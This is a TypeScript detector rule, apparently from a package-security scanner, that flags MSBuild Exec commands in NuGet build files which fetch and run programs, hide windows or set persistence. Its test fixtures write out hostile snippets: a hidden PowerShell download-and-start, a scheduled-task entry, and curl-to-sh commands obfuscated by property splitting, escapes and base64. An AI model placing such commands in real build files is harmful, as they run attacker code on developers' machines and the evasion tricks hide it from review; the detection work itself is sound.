import type { Detector } from "../detector.ts";
import { attackShare } from "./_commands.ts";
import { buildFiles, commands, sightElement, writtenScripts } from "./_msbuild.ts";

export const buildCommandAttacks: Detector = {
  id: "build-command-attacks",
  title: "A command of a build file fetches programs, hides itself or settles in the machine",
  severity: "critical",
  ecosystems: ["nuget"],
  points: 5.6,
  class: "threat",
  group: "build-attacks",
  why: `An \`Exec\` task in a build file of the package downloads and starts something, opens no window on purpose, runs an encoded
command, or uses what only attacks use: script hosts fed from the network, scheduled tasks, run keys. Properties and escapes are put
together first. Campaigns of 2023 and 2024 with 60 packages and more began this way.

A plain download of a tool by a well-known project counts in part only.`,
  literals: ["<exec", "tasks.exec", "writelinestofile"],
  *detect(tree) {
    for (const build of buildFiles(tree)) {
      for (const { node, command } of commands(build)) {
        const share = attackShare(command);
        if (share > 0) yield sightElement(build, node, `building runs: ${command.slice(0, 200)}`, share);
      }
      for (const { node, command } of writtenScripts(build)) {
        const share = attackShare(command);
        if (share > 0) yield sightElement(build, node, `building writes a script: ${command.slice(0, 200)}`, share);
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="A" BeforeTargets="Build"><Exec Command="powershell -w hidden iwr https://example.invalid/a.exe -OutFile a.exe; start a.exe" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.props":
            '<Project><Target Name="A"><Exec Command="schtasks /create /tn a /tr %TEMP%\\a.exe /sc minute" /></Target></Project>',
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="A"><Exec Command="&quot;$(NodePath)&quot; build.js --out $(OutDir)" /><Exec Command="powershell -File &quot;$(MSBuildThisFileDirectory)gen.ps1&quot;" /></Target></Project>',
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "buildTransitive/Demo.targets":
            '<Project><PropertyGroup><A>cu</A><B>rl</B></PropertyGroup><Target Name="T"><Exec Command="$(A)$(B) https://example.invalid/a | sh" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="T"><Microsoft.Build.Tasks.Exec Command="m%73hta https://example.invalid/a" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets": `<Project><PropertyGroup><C>$([System.Text.Encoding]::UTF8.GetString($([System.Convert]::FromBase64String('${Buffer.from("curl -s https://example.invalid/a | sh").toString("base64")}'))))</C></PropertyGroup><Target Name="T"><Exec Command="$(C)" /></Target></Project>`,
        },
      },
    ],
  },
};
